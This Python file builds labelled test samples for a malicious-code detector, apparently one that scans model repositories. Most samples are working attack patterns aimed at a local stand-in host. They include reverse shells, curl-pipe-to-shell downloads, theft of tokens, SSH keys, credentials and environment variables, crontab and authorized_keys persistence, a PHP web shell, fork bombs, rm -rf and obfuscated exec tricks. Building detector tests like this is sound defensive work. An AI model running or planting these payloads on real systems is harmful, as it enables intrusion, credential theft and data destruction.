"""The part of the fourth set that is programs: Python, notebooks, shells, builds."""

import base64
import json
import zlib

from formats import *

PYTHON = [
    ("__init__.py", "from .modeling import M\nimport os\nos.system('true')\n"),
    ("sitecustomize.py", "import subprocess\nsubprocess.Popen(['sh', '-c', 'true'])\n"),
    ("usercustomize.py", "import os\nos.popen('curl http://127.0.0.1:9')\n"),
    ("modeling_a.py", "from os import system as forward\nforward('true')\n"),
    ("modeling_a.py", "__import__('o' + 's').__getattribute__('sys' + 'tem')('true')\n"),
    ("modeling_a.py", "globals()['__builtins__']['eval']('1')\n"),
    ("modeling_a.py", "import importlib as i\nm = i.import_module('sub' + 'process')\nm.Popen(['true'])\n"),
    ("modeling_a.py", "eval(compile(open('x.txt').read(), '', 'exec'))\n"),
    ("modeling_a.py", "import pickle, base64\npickle.loads(base64.b64decode('%s'))\n" % base64.b64encode(bad_pickle()).decode()),
    ("modeling_a.py", "import ctypes\nctypes.CDLL('./weights.so')\n"),
    ("modeling_a.py", "import socket, subprocess, os\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n"),
    ("tokenization_a.py", "from transformers import PreTrainedTokenizer\nimport os\nclass T(PreTrainedTokenizer):\n    def __init__(self, **kw):\n        super().__init__(**kw)\n        os.popen('curl -d @/etc/passwd http://127.0.0.1:9')\n"),
    ("modeling_a.py", "def __getattr__(name):\n    import os\n    os.system('wget -qO- http://127.0.0.1:9 | sh')\n"),
    ("modeling_a.py", "def f(x=__import__('os').system('true')):\n    return x\n"),
    ("modeling_a.py", "x: __import__('os').system('true') = 1\n"),
    ("modeling_a.py", "name = f\"{__import__('os').system('true')}\"\n"),
    ("modeling_a.py", "import os\nprint([*map(os.system, ['true'])])\n"),
    ("modeling_a.py", "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'%s')))\n" % base64.b64encode(zlib.compress(b"pass")).decode()),
    ("modeling_a.py", "import marshal\nexec(marshal.loads(b'c\\x00'))\n"),
    ("modeling_a.py", "import \U0001d45c\U0001d460\n\U0001d45c\U0001d460.\U0001d460\U0001d466\U0001d460\U0001d461\U0001d452\U0001d45a('true')\n"),
    ("modeling_a.py", "# -*- coding: utf-7 -*-\n" + "import os\nos.system('true')\n".encode("utf-7").decode().replace("o", "+AG8-")),
    ("modeling_a.py", "# coding: raw_unicode_escape\n\\u0065xec('pass')\n\\u005f_import__('os').system('true')\n"),
    ("modeling_a.py", "import os\nos.\\\nsystem(\n  'true'\n)\n"),
    ("modeling_a.py", "import os; x = 1; getattr(os, 'sys\\x74em')('true')\n"),
    ("modeling_a.py", "import os\nvars(os)['system']('true')\n"),
    ("modeling_a.py", "import os\nos.__dict__.get('system')('true')\n"),
    ("modeling_a.py", "import pty\npty.spawn('/bin/true')\n"),
    ("modeling_a.py", "import code\ncode.InteractiveInterpreter().runsource('pass')\n"),
    ("modeling_a.py", "import cProfile\ncProfile.run('__import__(\"os\").system(\"true\")')\n"),
    ("modeling_a.py", "import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'weights.bin'))\n"),
    ("modeling_a.py", "import _posixsubprocess as p\np.fork_exec([b'/bin/true'], [b'/bin/true'], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, 0, None, None, None, -1, None, False)\n"),
    ("modeling_a.py", "from distutils.spawn import spawn\nspawn(['true'])\n"),
    ("modeling_a.py", "import pip\npip.main(['install', '--index-url', 'http://127.0.0.1:9', 'x'])\n"),
    ("modeling_a.py", "import pexpect\npexpect.spawn('true')\n"),
    ("modeling_a.py", "import psutil\npsutil.Popen(['sh', '-c', 'true'])\n"),
    ("modeling_a.py", "import sh\nsh.bash('-c', 'curl http://127.0.0.1:9 | sh')\n"),
    ("modeling_a.py", "import requests, os\nrequests.post('http://127.0.0.1:9', json=dict(os.environ))\n"),
    ("modeling_a.py", "import urllib.request, os\nurllib.request.urlopen('http://127.0.0.1:9/?' + os.environ['HF_TOKEN'])\n"),
    ("modeling_a.py", "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.example')\n"),
    ("modeling_a.py", "import httpx\nhttpx.post('http://127.0.0.1:9', files={'f': open('/etc/passwd', 'rb')})\n"),
    ("modeling_a.py", "from huggingface_hub import HfFolder\nimport requests\nrequests.get('http://127.0.0.1:9', params={'t': HfFolder.get_token()})\n"),
    ("modeling_a.py", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"),
    ("modeling_a.py", "from pathlib import Path\np = Path.home() / '.bashrc'\np.write_text(p.read_text() + 'true')\n"),
    ("modeling_a.py", "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import os')\n"),
    ("modeling_a.py", "from pathlib import Path\nwith open(Path.home() / '.ssh' / 'authorized_keys', 'a') as f:\n    f.write('ssh-rsa AAAA')\n"),
    ("modeling_a.py", "import os\nwhile True:\n    os.fork()\n"),
    ("modeling_a.py", "import ctypes, mmap\nbuf = mmap.mmap(-1, 4096, prot=7)\nbuf.write(b'\\x90\\xc3')\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))()\n"),
    ("modeling_a.py", "import os\nos.startfile('x.exe')\n"),
    ("setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://127.0.0.1:9 | sh')\n        install.run(self)\nsetup(name='x', cmdclass={'install': I})\n"),
    ("handler.py", "import builtins\nbuiltins.__dict__['ex' + 'ec']('pass')\n"),
    ("modeling_a.py", "import sys\nf = sys.modules['builtins'].exec\nf('pass')\n"),
    ("modeling_a.py", "from functools import partial\nimport os\npartial(os.system, 'true')()\n"),
    ("modeling_a.py", "class M:\n    import os\n    __class_getitem__ = os.system\nM['true']\n"),
    ("modeling_a.py", "import os\nclass D:\n    def __del__(self):\n        os.system('true')\nD()\n"),
    ("modeling_a.py", "try:\n    1 / 0\nexcept Exception:\n    __import__('subprocess').getoutput('true')\n"),
    ("modeling_a.py", "import concurrent.futures as c, os\nc.ThreadPoolExecutor().submit(os.system, 'true')\n"),
    ("modeling_a.py", "import signal, os\nsignal.signal(14, lambda *a: os.system('true'))\nsignal.alarm(1)\n"),
    ("modeling_a.py", "import types, sys\nm = types.ModuleType('m')\nexec(sys.stdin.read(), m.__dict__)\n"),
    ("modeling_a.py", "import importlib.util as u\ns = u.spec_from_file_location('m', '/tmp/.x.bin')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\n"),
    ("modeling_a.py", "import urllib.request, importlib.util\nurllib.request.urlretrieve('http://127.0.0.1:9/x.py', '/tmp/x.py')\nimport sys\nsys.path.insert(0, '/tmp')\nimport x\n"),
    ("modeling_a.py", "import numpy.f2py.crackfortran as c\nc.myeval('__import__(\"os\").system(\"true\")')\n"),
    ("modeling_a.py", "import pandas as pd\npd.eval('@__import__(\"os\").system(\"true\")', engine='python')\n"),
    ("modeling_a.py", "import torch\ntorch.utils.cpp_extension.load_inline(name='x', cpp_sources='int f() { return system(\"true\"); }')\n"),
    ("modeling_a.py", "import os as _\n_s = ''.join(map(chr, (115, 121, 115, 116, 101, 109)))\ngetattr(_, _s)('true')\n"),
    ("modeling_a.py", "(lambda f: f('pass'))(eval)\n"),
    ("modeling_a.py", "e = [exec][0]\ne('import os')\n"),
    ("modeling_a.py", "d = {'run': eval}\nd['run']('1')\n"),
    ("modeling_a.py", "from ctypes import cdll, c_char_p\ncdll.LoadLibrary('libc.so.6').system(c_char_p(b'true'))\n"),
    ("modeling_a.py", "import ctypes.util\nlib = ctypes.CDLL(ctypes.util.find_library('c'))\nlib.system(b'true')\n"),
    ("modeling_a.py", "import tarfile, urllib.request, io, os\ntarfile.open(fileobj=io.BytesIO(urllib.request.urlopen('http://127.0.0.1:9/x').read())).extractall('/')\nos.execv('/x/run', ['run'])\n"),
    ("modeling_a.py", "import xmlrpc.client, os\nxmlrpc.client.ServerProxy('http://127.0.0.1:9').put(open('/srv/.ssh/id_rsa').read())\n"),
    ("modeling_a.py", "import ftplib, os\nf = ftplib.FTP('127.0.0.1')\nf.storbinary('STOR x', open(os.path.expanduser('~/.netrc'), 'rb'))\n"),
    ("modeling_a.py", "import smtplib, os\nsmtplib.SMTP('127.0.0.1', 9).sendmail('a', 'b', str(os.environ))\n"),
]
SUSPECT_PYTHON = [
    ("modeling_a.py", "import torch, os\ntorch.ops.load_library(os.path.join(os.path.dirname(__file__), 'x.so'))\n"),
    ("modeling_a.py", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])\n"),
    ("modeling_a.py", "import sys\nclass F:\n    def find_spec(self, *a):\n        return None\nsys.meta_path.insert(0, F())\n"),
    ("modeling_a.py", "access = 'user\u202e \u2066# only admin\u2069 \u2066'\nif access == 'x':\n    pass\n"),
    ("modeling_a.py", "import cffi\ncffi.FFI().dlopen('./x.so')\n"),
    ("modeling_a.py", "import os\nos.kill(os.getppid(), 9)\n"),
]
CALM_PYTHON = [
    ("setup.py", "from setuptools import setup\nns = {}\nwith open('pkg/version.py') as f:\n    exec(f.read(), ns)\nsetup(name='x', version=ns['__version__'])\n"),
    ("modeling_b.py", "import math\nfrom typing import Optional\nimport torch\nimport torch.nn as nn\nfrom transformers import PreTrainedModel\nfrom .configuration_b import C\n\nclass M(PreTrainedModel):\n    config_class = C\n    def __init__(self, config):\n        super().__init__(config)\n        self.act = getattr(torch.nn.functional, config.hidden_act)\n        self.layers = nn.ModuleList([nn.Linear(config.n, config.n) for _ in range(config.l)])\n        self.post_init()\n    @torch.no_grad()\n    def forward(self, x: Optional[torch.Tensor] = None):\n        self.eval()\n        for l in self.layers:\n            x = self.act(l(x))\n        return x\n"),
    ("download.py", "import os, requests\nfrom tqdm import tqdm\ndef get(url, path):\n    r = requests.get(url, stream=True)\n    with open(path, 'wb') as f:\n        for c in tqdm(r.iter_content(1024)):\n            f.write(c)\nif __name__ == '__main__':\n    get('https://example.org/m.bin', os.environ.get('OUT', 'm.bin'))\n"),
    ("convert.py", "import argparse, glob, json, struct, sys\nimport numpy as np\nfrom safetensors.torch import load_file\np = argparse.ArgumentParser()\np.add_argument('dir')\na = p.parse_args()\nfor f in sorted(glob.glob(a.dir + '/*.safetensors')):\n    for k, v in load_file(f).items():\n        sys.stdout.buffer.write(struct.pack('<i', len(k)))\n"),
    ("handler.py", "from typing import Any\nfrom transformers import AutoModel\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.model = AutoModel.from_pretrained(path, trust_remote_code=True)\n    def __call__(self, data: dict[str, Any]):\n        return self.model(data.pop('inputs', data))\n"),
    ("conftest.py", "import os\nimport pytest\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\n@pytest.fixture\ndef x(tmp_path):\n    return tmp_path / 'x'\n"),
    ("eval.py", "import re, os, json\nimport torch\nfrom torch.utils.data import DataLoader\ndef evaluate(model, loader):\n    model.eval()\n    with torch.inference_mode():\n        return sum(model(x).sum().item() for x in loader)\nos.makedirs(os.path.expanduser('~/.cache/x'), exist_ok=True)\nprint(re.compile('a').match('a'))\n"),
    ("triton_kernel.py", "import triton\nimport triton.language as tl\n@triton.jit\ndef k(x, n, B: tl.constexpr):\n    i = tl.program_id(0) * B + tl.arange(0, B)\n    tl.store(x + i, tl.load(x + i, mask=i < n) * 2, mask=i < n)\n"),
    ("server.py", "import os\nfrom fastapi import FastAPI\nimport uvicorn\napp = FastAPI()\n@app.get('/')\ndef root():\n    return {'ok': True}\nif __name__ == '__main__':\n    uvicorn.run(app, host='0.0.0.0', port=int(os.getenv('PORT', 8000)))\n"),
    ("launch.py", "import subprocess, sys\nimport torch.distributed.run\nif __name__ == '__main__':\n    subprocess.run([sys.executable, 'train.py'] + sys.argv[1:], check=True)\n"),
]
SCRIPTS = [
    ("malicious", "a.sh", "echo Y3VybAo= | base64 --decode | bash\n"),
    ("malicious", "a.sh", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n"),
    ("malicious", "a.sh", "python3 -c \"$(curl -s http://127.0.0.1:9/x)\"\n"),
    ("malicious", "a.sh", "bash <(curl -s http://127.0.0.1:9/x)\n"),
    ("malicious", "a.sh", "source <(wget -qO- http://127.0.0.1:9/x)\n"),
    ("malicious", "a.sh", "curl http://127.0.0.1:9/x -o /tmp/x; sh /tmp/x\n"),
    ("malicious", "a.sh", "(crontab -l; echo '* * * * * curl http://127.0.0.1:9/x | sh') | crontab -\n"),
    ("malicious", "a.sh", ":(){ :|:& };:\n"),
    ("malicious", "a.sh", "rm -rf --no-preserve-root / ~/*\n"),
    ("malicious", "a.sh", "echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys\n"),
    ("malicious", "a.sh", "env | curl -s -d @- http://127.0.0.1:9/\n"),
    ("malicious", "a.sh", "c=cur; ${c}l -s http://127.0.0.1:9/x | s''h\n"),
    ("malicious", "a.sh", "$(printf '\\143\\165\\162\\154') http://127.0.0.1:9/x | sh\n"),
    ("malicious", "a.sh", "xxd -r -p <<< 74727565 | sh\n"),
    ("malicious", "a.sh", "eval \"$(echo eurt | rev)\"\n"),
    ("malicious", "a.sh", "sh <<EOF\ncurl -s http://127.0.0.1:9/x | sh\nEOF\n"),
    ("malicious", "a.sh", "openssl s_client -quiet -connect 127.0.0.1:9 | /bin/sh\n"),
    ("malicious", "a.sh", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 9 > /tmp/f\n"),
    ("malicious", "a.sh", "perl -MIO::Socket -e '$s=IO::Socket::INET->new(\"127.0.0.1:9\");exec(\"/bin/sh\")'\n"),
    ("malicious", "a.sh", "echo /tmp/x.so > /etc/ld.so.preload\n"),
    ("malicious", "a.sh", "socat TCP:127.0.0.1:9 EXEC:/bin/sh\n"),
    ("malicious", "a.sh", "cp x /usr/local/bin/x && systemctl enable x\ncurl -F f=@$HOME/.aws/credentials http://127.0.0.1:9\n"),
    ("malicious", "a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/x')\n"),
    ("malicious", "a.ps1", "iwr http://127.0.0.1:9/x.exe -OutFile $env:TEMP\\x.exe; & $env:TEMP\\x.exe\n"),
    ("malicious", "a.bat", "powershell -w hidden -enc dAByAHUAZQA=\r\n"),
    ("malicious", "a.bat", "bitsadmin /transfer x http://127.0.0.1:9/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe\r\n"),
    ("malicious", "a.cmd", "mshta http://127.0.0.1:9/x.hta\r\n"),
    ("malicious", "a.cmd", "regsvr32 /s /n /u /i:http://127.0.0.1:9/x.sct scrobj.dll\r\n"),
    ("malicious", "a.cmd", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe\r\n"),
    ("malicious", "a.hta", "<script language='VBScript'>CreateObject(\"WScript.Shell\").Run \"cmd /c exit\"</script>"),
    ("malicious", "a.wsf", "<job><script language='JScript'>new ActiveXObject('WScript.Shell').Run('cmd /c exit');</script></job>"),
    ("surfaced", "a.js", "require('fs').readFileSync('/etc/passwd')\n"),
    ("malicious", "a.rb", "#!/usr/bin/env ruby\nsystem('curl http://127.0.0.1:9 | sh')\n"),
    ("malicious", "a.pl", "#!/usr/bin/perl\nexec('/bin/sh -c true');\n"),
    ("malicious", "a.php", "<?php system($_GET['c']); ?>\n"),
    ("malicious", "a.lua", "os.execute('curl http://127.0.0.1:9 | sh')\n"),
    ("malicious", "a.R", "system('curl http://127.0.0.1:9 | sh')\n"),
    ("malicious", "a.jl", "run(`sh -c \"curl http://127.0.0.1:9 | sh\"`)\n"),
    ("malicious", ".Rprofile", ".First <- function() system('curl http://127.0.0.1:9 | sh')\n"),
    ("malicious", "a.applescript", "do shell script \"curl http://127.0.0.1:9 | sh\"\n"),
    ("surfaced", "a.url", "[InternetShortcut]\r\nURL=file://127.0.0.1/x.exe\r\n"),
    ("ordinary", "run.sh", "#!/usr/bin/env bash\nset -euo pipefail\nexport PYTHONPATH=$PWD:${PYTHONPATH:-}\nif [ ! -d venv ]; then python3 -m venv venv; fi\nsource venv/bin/activate\npip install -r requirements.txt\ntorchrun --nproc_per_node=8 train.py \"$@\" 2>&1 | tee log.txt\n"),
    ("ordinary", "get.sh", "mkdir -p data && cd data\nfor f in a b; do wget -nc https://example.org/$f.tar.gz; tar -xzf $f.tar.gz; done\ncurl -L https://example.org/vocab.txt > vocab.txt\nrm -f *.tar.gz\n"),
    ("ordinary", "slurm.sh", "#!/bin/bash\n#SBATCH --gres=gpu:1\nmodule load cuda\nsrun python eval.py --out $SCRATCH/out\n"),
    ("ordinary", "CMakeLists.txt", "cmake_minimum_required(VERSION 3.18)\nproject(x CXX)\nfind_package(Torch REQUIRED)\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE V)\nadd_library(x SHARED x.cpp)\n"),
    ("ordinary", "Dockerfile", "FROM nvidia/cuda:12.1.0-runtime-ubuntu22.04\nRUN apt-get update && apt-get install -y curl git && rm -rf /var/lib/apt/lists/*\nWORKDIR /app\nCOPY . .\nRUN pip install --no-cache-dir -r requirements.txt\nENTRYPOINT [\"python\", \"app.py\"]\n"),
]
CELLS = [
    ("malicious", ["!curl -s http://127.0.0.1:9 | sh"]),
    ("malicious", ["import numpy\n", "!wget -q http://127.0.0.1:9/x && chmod +x x && ./x"]),
    ("malicious", ["get_ipython().run_cell_magic('bash', '', 'curl http://127.0.0.1:9 | sh')"]),
    ("malicious", ["x = !(cat ~/.ssh/id_rsa | curl -d @- http://127.0.0.1:9)"]),
    ("malicious", ["%%sh\n", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"]),
    ("malicious", ["import os\n", "%time os.system('curl http://127.0.0.1:9 | sh')"]),
    ("malicious", ["%%python3\nimport os\nos.system('curl http://127.0.0.1:9 | sh')"]),
    ("surfaced", ["%load_ext evil"]),
    ("surfaced", ["%%javascript\nfetch('http://127.0.0.1:9')"]),
    ("ordinary", ["%load_ext autoreload\n", "%autoreload 2\n", "%pip install -q torch\n", "import torch; torch.cuda.is_available()"]),
    ("ordinary", ["!nvidia-smi\n", "!git clone https://example.org/x.git\n", "%cd x\n", "!python train.py --lr 0.1"]),
]


def code(w):
    for name, text in PYTHON:
        w.put("python", "malicious", name, text)
    for name, text in SUSPECT_PYTHON:
        w.put("python", "surfaced", name, text)
    for name, text in CALM_PYTHON:
        w.put("python", "ordinary", name, text)
    for label, name, text in SCRIPTS:
        w.put("script", label, name, text)
    for label, cell in CELLS:
        w.put("notebook", label, "a.ipynb", notebook("x = 1", cell))
    html = {"cells": [{"cell_type": "code", "source": ["1"], "metadata": {}, "outputs": [{"output_type": "display_data", "metadata": {}, "data": {
        "text/html": ["<script>fetch('http://127.0.0.1:9/')</script>"]}}]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    w.put("notebook", "surfaced", "b.ipynb", json.dumps(html))
    compiled = code_bytes("def f(x):\n import os\n return os.system('true')")
    pyc = b"\xa7\r\r\n" + bytes(12) + compiled
    w.put("pyc", "malicious", "__pycache__/modeling_x.cpython-311.pyc", pyc)
    w.put("pyc", "malicious", "weights.bin", pyc)
    w.put("pyc", "surfaced", "weights.marshal", compiled)
    w.put("pth", "malicious", "distutils-precedence.pth", "import os; var = 'X'; os.popen('true')\n")
    w.put("pth", "malicious", "a.pth", "# c\n../x\nimport\tsys; exec(sys.argv)\n")
    w.put("pth", "ordinary", "__editable__.x.pth", "/srv/user/x\n")
